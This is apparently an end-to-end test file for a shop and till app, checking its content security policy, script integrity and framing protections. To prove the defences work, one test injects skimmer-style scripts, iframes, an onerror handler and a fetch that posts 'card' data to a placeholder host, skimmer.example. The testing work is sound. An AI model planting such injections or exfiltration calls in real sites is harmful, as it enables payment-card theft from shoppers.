import { createHash } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { eventually } from "../kit/eventually.ts";
import { launchBrowser } from "../kit/launch-browser.ts";
import { type Shop, type TillClient, startShop } from "../kit/start-shop.ts";
import { type RunningTill, startTill } from "../kit/start-till.ts";
import { cashierPin, managerEmail, managerPassword } from "../kit/test-shop.ts";
import { cardToken, checkout, newCharge } from "./selling.ts";

const stepMs = 20_000;
const journeyMs = 120_000;

let shop: Shop;
let till: RunningTill;
let browser: Browser;
let manager: TillClient;
/** What any page of these tests was kept from loading or running. */
const violations: string[] = [];

beforeAll(async () => {
  shop = await startShop({ webhooks: "off" });
  till = await startTill(shop);
  browser = await launchBrowser();
  manager = await shop.manager();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await till?.stop();
  await shop?.stop();
}, 60_000);

async function openContext(): Promise<BrowserContext> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  context.setDefaultTimeout(stepMs);
  await context.exposeBinding("tellViolation", (_source, told: string) => void violations.push(told));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
      (globalThis as unknown as { tellViolation(told: string): void }).tellViolation(
        `${location.pathname}: ${effectiveDirective} ${blockedURI} ${sample}`,
      );
    });
  });
  return context;
}

const at = (path: string): string => `http://localhost:${shop.port}${path}`;

async function toCheckout(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await page.goto(at("/"));
  await page
    .getByRole("link", { name: /Croissant/ })
    .first()
    .click();
  await page.getByRole("button", { name: /Add to cart/i }).click();
  await page.getByRole("link", { name: /Cart, 1 item/ }).click();
  await page.getByRole("link", { name: /Checkout/i }).click();
  await page.getByRole("textbox", { name: /Email/ }).fill("buyer@till.example");
  return page;
}

test(
  "a shopper comes from the list to a paid order and its receipt without the policy in the way",
  async () => {
    const context = await openContext();
    const page = await toCheckout(context);
    const form = page.frameLocator("iframe");
    await form.getByRole("textbox", { name: "Card number" }).fill("4242424242424242");
    await form.getByRole("textbox", { name: /Expires/ }).fill("1234");
    await form.getByRole("textbox", { name: "Security code" }).fill("123");
    await form.getByRole("textbox", { name: "Security code" }).blur();
    await page.getByRole("button", { name: /^Pay €/ }).click();
    await page.getByText("Your order is paid").waitFor();
    const paper = page.frameLocator("iframe[title^='Receipt']").locator(".paper");
    await paper.waitFor();
    const { width } = await paper.evaluate((element) => getComputedStyle(element));
    const { justifyContent } = await paper
      .locator(".total")
      .first()
      .evaluate((element) => getComputedStyle(element));
    expect({ hasWidth: Number.parseFloat(width) > 200, justifyContent }).toEqual({
      hasWidth: true,
      justifyContent: "space-between",
    });
    await context.close();
    expect(violations).toEqual([]);
  },
  journeyMs,
);

test(
  "every page of the office is shown without the policy in the way, a mail in its own looks among them",
  async () => {
    const { id: saleId, orderToken } = await checkout(shop);
    const id = newCharge(shop);
    await shop.buyer.charges.create.mutate({ id, saleId, orderToken, tender: cardToken("pm_card_visa") });
    const mails = await eventually(
      () => manager.outbox.list.query({ kind: "mail" }),
      ({ messages }) => messages.length > 0,
    );
    const context = await openContext();
    const page = await context.newPage();
    await page.goto(at("/office"));
    await page.getByLabel(/e-?mail/i).fill(managerEmail);
    await page.getByLabel(/password/i).fill(managerPassword);
    await page.getByRole("button", { name: /^Sign in$/i }).click();
    await page.getByRole("link", { name: /End of day/ }).waitFor();
    for (const path of ["", "/day", "/sales", `/sales/${saleId}`, "/entries", "/charges", "/disputes"].concat(
      ["/events", "/messages", "/gateways", "/gift-cards", "/scales"],
    )) {
      await page.goto(at(`/office${path}`));
      await page.getByRole("heading").first().waitFor();
      await page.waitForLoadState("networkidle");
    }
    await page.goto(at(`/office/messages/${mails.messages[0]?.id}`));
    const paper = page.frameLocator("iframe.message-frame").locator(".paper");
    await paper.waitFor();
    expect(await paper.evaluate((element) => getComputedStyle(element).backgroundColor)).toBe(
      "rgb(255, 255, 255)",
    );
    await context.close();
    expect(violations).toEqual([]);
  },
  journeyMs,
);

test(
  "the till sells and shows its receipt without the policy in the way",
  async () => {
    const context = await openContext();
    const page = await context.newPage();
    const press = (name: string | RegExp) =>
      page
        .getByRole("button", typeof name === "string" ? { name, exact: true } : { name })
        .first()
        .click();
    await page.goto(till.url);
    await press(/Cashier 1/);
    for (const digit of cashierPin) await press(digit);
    await press(/Sign in/);
    for (const key of ["1", "0", "0"]) await press(key);
    await press(/Open shift/);
    await press(/Croissant/);
    await press(/^Cash/);
    await press("€5.00");
    await press(/Take cash/);
    await page.getByRole("heading", { name: "Paid" }).waitFor();
    const paper = page.frameLocator("iframe[title^='Receipt']").locator(".paper");
    await paper.waitFor();
    expect(
      await paper
        .locator(".total")
        .first()
        .evaluate((element) => getComputedStyle(element).display),
    ).toBe("flex");
    await context.close();
    expect(violations).toEqual([]);
  },
  journeyMs,
);

test(
  "the paying page runs the scripts of Till's own build and no other, each with its integrity",
  async () => {
    const context = await openContext();
    const scripts = new Map<string, Promise<Buffer>>();
    context.on("response", (response) => {
      const request = response.request();
      if (request.resourceType() !== "script" || request.frame().parentFrame() !== null) return;
      scripts.set(response.url(), response.body());
    });
    const page = await toCheckout(context);
    await page.frameLocator("iframe").getByRole("textbox", { name: "Card number" }).waitFor();
    const inline = await page.evaluate(() =>
      [...document.scripts].filter(({ src }) => src === "").map(({ type }) => type),
    );
    expect(inline).toEqual(["importmap"]);
    const map = await page.evaluate(
      () => document.querySelector("script[type=importmap]")?.textContent ?? "",
    );
    const { integrity } = JSON.parse(map) as { integrity: Record<string, string> };
    expect(scripts.size).toBeGreaterThan(3);
    for (const [url, body] of scripts) {
      const { origin, pathname } = new URL(url);
      expect(origin).toBe(at(""));
      const hash = createHash("sha384")
        .update(await body)
        .digest("base64");
      expect({ pathname, integrity: integrity[pathname] }).toEqual({ pathname, integrity: `sha384-${hash}` });
    }
    await context.close();
  },
  journeyMs,
);

test(
  "a script that was changed on its way does not run, at first and later alike",
  async () => {
    for (const changed of [/\/assets\/storefront-[^/]*\.js$/, /\/assets\/cart-page-[^/]*\.js$/]) {
      const context = await openContext();
      const page = await context.newPage();
      await page.route(changed, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `globalThis.skimmed = true;\n${await response.text()}` });
      });
      const refused: string[] = [];
      page.on("console", (message) => {
        if (message.text().includes("integrity")) refused.push(message.text());
      });
      await page.goto(at("/cart"));
      await eventually(
        async () => refused.length,
        (count) => count > 0,
      );
      expect(await page.evaluate(() => "skimmed" in globalThis)).toBe(false);
      await context.close();
    }
  },
  journeyMs,
);

test(
  "what somebody got into a page neither runs nor loads nor sends, and the shop hears of it",
  async () => {
    const context = await openContext();
    const page = await toCheckout(context);
    await page.evaluate(() => {
      const add = (tag: string, set: (element: HTMLElement) => void): void => {
        const element = document.createElement(tag);
        set(element);
        document.body.append(element);
      };
      add("script", (element) => (element.textContent = "globalThis.skimmed = 1"));
      add("script", (element) => element.setAttribute("src", "https://skimmer.example/card.js"));
      add("style", (element) => (element.textContent = "input { color: red }"));
      add("iframe", (element) => element.setAttribute("src", "https://skimmer.example/form"));
      add("img", (element) => element.setAttribute("src", "https://skimmer.example/pixel"));
      document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="globalThis.skimmed = 1">');
      void fetch("https://skimmer.example/take", { method: "POST", body: "card" }).catch(() => {});
    });
    const hit = await eventually(
      async () => new Set(violations.map((told) => told.split(" ")[1])),
      (kinds) => kinds.size >= 6,
    );
    expect(hit).toEqual(
      new Set([
        "connect-src",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-elem",
      ]),
    );
    expect(await page.evaluate(() => "skimmed" in globalThis)).toBe(false);
    const counted = await eventually(
      async () => (await fetch(`http://127.0.0.1:${shop.port}/metrics`)).text(),
      (text) => /till_policy_violations_total\{directive="script-src-elem"\} [1-9]/.test(text),
    );
    expect(counted).toContain('till_policy_violations_total{directive="connect-src"}');
    const log = await eventually(
      async () =>
        shop.log
          .join("")
          .split("\n")
          .filter((line) => line.includes("a browser kept something out")),
      (lines) => lines.some((line) => line.includes("skimmer.example")),
    );
    expect(log.join("")).toContain('"page":"/checkout"');
    await context.close();
  },
  journeyMs,
);

test(
  "no other site frames a page of the shop or of the till",
  async () => {
    const context = await openContext();
    const page = await context.newPage();
    const elsewhere = createServer((_request, answer) =>
      answer.setHeader("content-type", "text/html").end("<p>"),
    );
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    const { port } = elsewhere.address() as AddressInfo;
    const framed = async (url: string): Promise<string> => {
      await page.goto(`http://localhost:${port}/`);
      const loaded = page.evaluate((src) => {
        const frame = document.createElement("iframe");
        frame.src = src;
        const done = new Promise((resolve) => frame.addEventListener("load", resolve));
        document.body.append(frame);
        return done.then(() => null);
      }, url);
      await loaded;
      return page.frames()[1]?.url() ?? "no frame";
    };
    const form = `http://localhost:${shop.ports.stripe}/sandbox/card-form?origin=http://localhost:${port}`;
    expect(await framed(form)).toBe(form);
    for (const url of [at("/"), at("/office"), till.url])
      expect(await framed(url)).toMatch(/^(?:chrome-error:.*)?$/);
    elsewhere.close();
    await context.close();
  },
  journeyMs,
);
